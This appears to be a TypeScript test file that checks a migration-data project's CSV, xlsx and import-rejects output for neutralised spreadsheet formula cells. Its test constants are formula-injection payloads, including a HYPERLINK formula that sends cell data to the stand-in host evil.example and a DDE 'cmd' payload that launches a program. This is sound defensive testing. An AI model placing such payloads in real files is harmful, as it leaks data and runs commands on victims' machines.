import fs from 'node:fs';
import path from 'node:path';
import type { Client } from 'pg';
import { csvText } from '../../shared/src/io/csv';
import { ImportError, importStock } from '../../services/migration-data/src/import';
import ExcelJS from 'exceljs';
import { tableCsv, tablesXlsx } from '../../gateway/src/reports/formats';
import { type ImportFixture, openImportFixture } from '../support/importFixture';

// CSV formula injection (OWASP): a cell that begins with =, +, -, @, tab or carriage return is run by
// a spreadsheet as a formula. Every CSV the project writes prefixes such a text cell with a single
// quote; numbers stay numbers.

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2)';
const CMD = "+cmd|' /C calc'!A0";
const SUM = '@SUM(1+1)';
const MINUS = "-2+3+cmd|' /C calc'!A0";

describe('CSV written by the project', () => {
  it('neutralises formula cells and keeps numbers, negative ones included', () => {
    expect(
      csvText([
        [HYPERLINK, CMD, SUM, MINUS],
        ['\tTAB', '\rCR', -1500, '-1500'],
        [2.5, true, null, 'plain'],
      ]),
    ).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&B2)",'${CMD},'${SUM},'${MINUS}\r\n` +
        `'\tTAB,"'\rCR",-1500,-1500\r\n` +
        '2.5,true,,plain\r\n',
    );
  });

  it('writes report cells that look like formulas as text, whatever column they are in', () => {
    const table = {
      name: 'agencies',
      columns: ['acronym', 'name', 'code', 'parties'].map((label) => ({ label, date: false })),
      rows: [
        [HYPERLINK, CMD, SUM, -3],
        ['ILO', MINUS, 'C097', 12],
      ],
    };
    expect(tableCsv(table)).toBe(
      [
        '\ufeffacronym,name,code,parties',
        `"'=HYPERLINK(""http://evil.example/?leak=""&B2)",'${CMD},'${SUM},-3`,
        `ILO,'${MINUS},C097,12`,
        '',
      ].join('\r\n'),
    );
  });

  it('writes the same cells to xlsx as text cells with the same leading quote, never as formulas', async () => {
    const table = {
      name: 'agencies',
      columns: ['acronym', 'name', 'code', 'parties'].map((label) => ({ label, date: false })),
      rows: [
        [HYPERLINK, CMD, SUM, -3],
        ['ILO', MINUS, '-1500', 12],
      ],
    };
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await tablesXlsx([table])) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('agencies');
    const cells = [2, 3].map((r) => [1, 2, 3, 4].map((c) => sheet?.getRow(r).getCell(c)));
    expect(cells.map((row) => row.map((cell) => [cell?.type, cell?.value]))).toEqual([
      [
        [ExcelJS.ValueType.String, `'${HYPERLINK}`],
        [ExcelJS.ValueType.String, `'${CMD}`],
        [ExcelJS.ValueType.String, `'${SUM}`],
        [ExcelJS.ValueType.Number, -3],
      ],
      [
        [ExcelJS.ValueType.String, 'ILO'],
        [ExcelJS.ValueType.String, `'${MINUS}`],
        [ExcelJS.ValueType.String, '-1500'],
        [ExcelJS.ValueType.Number, 12],
      ],
    ]);
  });

  describe('rejects files', () => {
    let fixture: ImportFixture;
    let client: Client;
    let dir: string;
    beforeAll(async () => {
      fixture = await openImportFixture('mg-sec-csv-');
      ({ client, dir } = fixture);
    });
    afterAll(() => fixture.close());

    it('write the rejected rows of an import with formula cells neutralised', async () => {
      const file = path.join(dir, 'formulas.csv');
      fs.writeFileSync(
        file,
        [
          'destination_iso3,origin_iso3,year,sex,stock',
          `${HYPERLINK},GIN,2020,male,1`,
          `${SUM},GIN,2020,male,1`,
          CMD,
          MINUS,
          '\tSEN,GIN,2020,male,1',
        ].join('\n'),
      );
      const rejectsFile = path.join(dir, 'formulas.rejects.csv');
      const error = await importStock(client, file, { revision: 't_csv', skipInvalid: true, rejectsFile }).catch(
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(ImportError);
      expect(fs.readFileSync(rejectsFile, 'utf8')).toBe(
        [
          'line,reason,row',
          `2,"destination_iso3 ""=HYPERLINK(""http://evil.example/?leak=""&B2)"" is not a known country code","'=HYPERLINK(""http://evil.example/?leak=""&B2),GIN,2020,male,1"`,
          `3,"destination_iso3 ""@SUM(1+1)"" is not a known country code","'@SUM(1+1),GIN,2020,male,1"`,
          `4,"expected 5 comma-separated cells, got 1",'${CMD}`,
          `5,"expected 5 comma-separated cells, got 1",'${MINUS}`,
          `6,"destination_iso3 ""\\tSEN"" is not a known country code","\\tSEN,GIN,2020,male,1"`,
          '',
        ].join('\n'),
      );
    });
  });
});
